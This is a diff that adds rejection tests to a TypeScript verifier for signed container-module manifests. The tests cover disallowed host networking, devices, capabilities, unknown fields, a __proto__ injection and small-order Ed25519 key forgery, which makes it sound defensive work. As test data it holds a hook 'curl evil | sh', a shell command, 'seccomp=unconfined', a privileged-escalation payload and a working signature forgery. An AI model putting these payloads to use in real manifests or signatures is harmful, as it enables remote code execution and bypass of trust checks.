@@ -6,8 +6,10 @@ import { join } from "node:path";
 import * as jose from "jose";
 import type { KeyAlgorithm, KeyInfo, KeyRef, KeyStore, PublicKeyExport, SignatureScheme } from "../hsm/index.js";
 import {
+  addSignature,
   ManifestStateStore,
   MANIFEST_LIMITS,
+  MANIFEST_TYP,
   signManifest,
   signerFromKeyFile,
   signerFromKeyStore,
@@ -17,10 +19,11 @@ import {
   type JwsSigner,
   type Manifest,
   type Policy,
+  type TrustKey,
   type TrustRoot,
   type Verdict,
 } from "./index.js";
-import { DIGEST, FIXTURE_NOW, fixturePolicy, makeManifest, makeSigner, makeSigners, makeTrustRoot } from "./fixtures.js";
+import { DIGEST, FIXTURE_NOW, FIXTURE_POLICY_YAML, fixturePolicy, makeManifest, makeSigner, makeSigners, makeTrustRoot } from "./fixtures.js";
 
 let signers: JwsSigner[];
 let root: TrustRoot;
@@ -277,6 +280,112 @@ describe("attacks: each must be rejected", () => {
       expect(checks(v), bind).toEqual(["module-options"]);
     }
   });
+  /** The sensor module of a fresh fixture manifest with `options` merged into its (allowed) options. */
+  function asking(options: Partial<NonNullable<Manifest["modules"][string]["options"]>>, module = "sensor"): Manifest {
+    const m = makeManifest();
+    const s = m.modules[module] as Manifest["modules"][string];
+    s.options = { ...s.options, ...options };
+    return m;
+  }
+
+  it("host network when policy does not grant it", async () => {
+    // This policy grants bridge and none, not host; every module of the fixture manifest asks for host.
+    const p = fixturePolicy(FIXTURE_POLICY_YAML.replace("network: [host, none]", "network: [bridge, none]"));
+    const v = await verify(await signed(makeManifest()), { policy: p });
+    expect(v.ok).toBe(false);
+    expect(checks(v)).toEqual(["module-options", "module-options"]);
+    expect(v.reasons.map((r) => r.message).join("\n")).toMatch(/module sensor: network host is not allowed \(allowed: bridge, none\) \[modules\.defaults\.network\]/);
+    // the denial is about host alone: the same manifest asking bridge (or nothing, i.e. none) is accepted
+    const bridge = makeManifest();
+    for (const mod of Object.values(bridge.modules)) mod.options = { ...mod.options, network: "bridge" };
+    expect((await verify(await signed(bridge), { policy: p })).reasons).toEqual([]);
+    const none = makeManifest();
+    for (const mod of Object.values(none.modules)) delete mod.options?.network;
+    expect((await verify(await signed(none), { policy: p })).reasons).toEqual([]);
+    // with no network key at all in policy, only none is granted
+    const bare = fixturePolicy(FIXTURE_POLICY_YAML.replace("    network: [host, none]\n", ""));
+    expect(checks(await verify(await signed(bridge), { policy: bare }))).toEqual(["module-options", "module-options"]);
+  });
+  it("a device policy does not grant (another module's device, an unlisted device, a traversal)", async () => {
+    // sanity: sensor's override grants /dev/ttyUSB*
+    expect((await verify(await signed(asking({ devices: ["/dev/ttyUSB0"] })))).reasons).toEqual([]);
+    for (const [module, device] of [
+      ["mod1", "/dev/ttyUSB0"], // granted to sensor only; mod1 has the defaults (no devices)
+      ["sensor", "/dev/sda"],
+      ["sensor", "/dev/ttyUSB0/../sda"],
+      ["sensor", "/dev/sda:/dev/ttyUSB0"], // the host side is what counts
+      ["sensor", "/dev/mem"],
+    ] as const) {
+      const v = await verify(await signed(asking({ devices: [device] }, module)));
+      expect(v.ok, `${module} ${device}`).toBe(false);
+      expect(checks(v), `${module} ${device}`).toEqual(["module-options"]);
+      expect(v.reasons[0]?.message, device).toMatch(new RegExp(`^module ${module}: device .* is not in the allow-list`));
+    }
+  });
+  it("a capability policy does not grant", async () => {
+    expect((await verify(await signed(asking({ capabilities: ["CAP_NET_BIND_SERVICE"] })))).reasons).toEqual([]);
+    for (const [module, cap] of [["sensor", "CAP_SYS_ADMIN"], ["mod1", "CAP_NET_BIND_SERVICE"]] as const) {
+      const v = await verify(await signed(asking({ capabilities: [cap] }, module)));
+      expect(checks(v), `${module} ${cap}`).toEqual(["module-options"]);
+      expect(v.reasons[0]?.message).toMatch(`capability ${cap} is not in the allow-list`);
+    }
+  });
+  it("unknown fields in a manifest signed by the threshold (top level, module, options, __proto__)", async () => {
+    const good = makeManifest();
+    type Obj = Record<string, unknown>;
+    const sensor = (m: Obj): Obj => (m.modules as Record<string, Obj>).sensor as Obj;
+    const opts = (m: Obj): Obj => sensor(m).options as Obj;
+    const variants: [string, (m: Obj) => void][] = [
+      ["top-level hooks", (m) => (m.hooks = { preStart: "curl evil | sh" })],
+      ["module command", (m) => (sensor(m).command = ["sh", "-c", "id"])],
+      ["options pidMode", (m) => (opts(m).pidMode = "host")],
+      ["options securityOpt", (m) => (opts(m).securityOpt = ["seccomp=unconfined"])],
+      ["options cgroupParent", (m) => (opts(m).cgroupParent = "/")],
+    ];
+    const texts = variants.map(([what, change]) => {
+      const m = JSON.parse(JSON.stringify(good)) as Obj;
+      change(m);
+      return [what, JSON.stringify(m)] as const;
+    });
+    // "__proto__" as a JSON key is an own property after JSON.parse: it must not slip past the closed schema.
+    texts.push(["options __proto__", JSON.stringify(good).replace('"options":{', '"options":{"__proto__":{"privileged":true},')]);
+    for (const [what, text] of texts) {
+      // signed by two trusted keys without signManifest's validation: only the verifier's schema stands in the way
+      let jws = await addSignature({ payload: new TextEncoder().encode(text) }, signers[0] as JwsSigner, MANIFEST_TYP);
+      jws = await addSignature({ jws }, signers[1] as JwsSigner, MANIFEST_TYP);
+      const v = await verify(jws);
+      expect(v.signers, what).toHaveLength(2);
+      expect(v.ok, what).toBe(false);
+      expect(checks(v), what).toEqual(["schema"]);
+      expect(v.reasons[0]?.message, what).toMatch(`unknown key "${what.split(" ").pop() ?? ""}"`);
+      expect(v.manifest, what).toBeUndefined();
+    }
+    // and unknown members of the JWS envelope itself
+    const j = await signed(makeManifest());
+    expect(checks(await verify(JSON.stringify({ ...j, header: { kid: "x" } })))).toEqual(["format"]);
+    expect(checks(await verify(JSON.stringify({ ...j, signatures: j.signatures.map((x) => ({ ...x, extra: 1 })) })))).toEqual(["format"]);
+  });
+  it("a trust root listing a small-order Ed25519 key (universal forgery under OpenSSL) is refused", async () => {
+    // Under the identity point A, R = A and S = 0 satisfy the cofactorless check for every message: WebCrypto says yes.
+    const identity = Buffer.from("01".padEnd(64, "0"), "hex");
+    const raw = await crypto.subtle.importKey("raw", identity, { name: "Ed25519" }, false, ["verify"]);
+    const forged = Buffer.concat([identity, Buffer.alloc(32)]);
+    expect(await crypto.subtle.verify({ name: "Ed25519" }, raw, forged, Buffer.from("anything"))).toBe(true);
+    // Our key path refuses the key, so the forgery counts for nothing...
+    const bad = { kid: "small", alg: "EdDSA" as const, kty: "OKP" as const, crv: "Ed25519" as const, x: identity.toString("base64url") };
+    const { rawVerify, signTrustRoot } = await import("./index.js");
+    expect(await rawVerify("EdDSA", bad, forged, Buffer.from("anything"))).toBe(false);
+    const m = await signed(makeManifest(), [signers[0] as JwsSigner]);
+    const hdr = b64json({ alg: "EdDSA", kid: "small", typ: MANIFEST_TYP });
+    const v = await verify({ payload: m.payload, signatures: [...m.signatures, { protected: hdr, signature: forged.toString("base64url") }] }, { trustRoot: { ...root, body: { ...root.body, keys: [...root.body.keys, bad] } } });
+    expect(v.ok).toBe(false);
+    expect(v.reasons.map((r) => r.message).join()).toMatch(/small order/);
+    // ...and a trust root listing it (or any of the 8 small-order points, or a non-canonical y) is not signed at all.
+    for (const x of ["0100000000000000000000000000000000000000000000000000000000000080", "ecffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f", "0000000000000000000000000000000000000000000000000000000000000000", "c7176a703d4dd84fba3c0b760d10670f2a2053fa2c39ccc64ec7fd7792ac03fa", "26e8958fc2b227b045c3f489f2ef98f0d5dfac05d3c63339b13802886d53fc05", "eeffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f"]) {
+      const body = { type: "edgetrust-trust-root" as const, version: 1, expires: "2027-01-01T00:00:00Z", threshold: 1, keys: [signers[0]?.publicKey as TrustKey, { ...bad, x: Buffer.from(x, "hex").toString("base64url") }] };
+      await expect(signTrustRoot(body, signers[0] as JwsSigner), x).rejects.toThrow(/small order|non-canonical/);
+    }
+  });
   it("in audit mode, a policy denial (not a trust failure) is a warning", async () => {
     const m = makeManifest();
     const s = m.modules.sensor as Manifest["modules"][string];
@@ -381,5 +490,34 @@ describe("trust root rotation", () => {
   it("an expired new root is rejected", async () => {
     const next = await makeTrustRoot(signers, { version: 2, expires: "2026-01-01T00:00:00Z" });
     expect((await verifyTrustRootRotation(root, next.text, { now })).reasons.join()).toMatch(/expired/);
+  });
+});
+
+describe("canonical base64url", () => {
+  it("the O(1) canonical check agrees with a decode/encode round trip on every short string", async () => {
+    const { decodeB64url } = await import("./jws.js");
+    const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
+    let n = 0;
+    for (let len = 0; len <= 7; len++) {
+      for (let i = 0; i < 400; i++) {
+        let s = "";
+        for (let j = 0; j < len; j++) s += alphabet[(i * 31 + j * 17 + ((i >> 3) * j)) % 64] ?? "A";
+        // every possible last character, so the unused-bits rule is exercised exhaustively
+        const t = len === 0 ? "" : s.slice(0, -1) + (alphabet[i % 64] ?? "A");
+        const roundTrip = len % 4 !== 1 && Buffer.from(t, "base64url").toString("base64url") === t;
+        const ours = (() => {
+          try {
+            decodeB64url(t);
+            return true;
+          } catch {
+            return false;
+          }
+        })();
+        expect(ours, JSON.stringify(t)).toBe(roundTrip);
+        n++;
+      }
+    }
+    expect(n).toBe(3200);
+    for (const bad of ["AB=", "A+B/", "AB C", "ABC\n"]) expect(() => decodeB64url(bad), bad).toThrow();
   });
 });
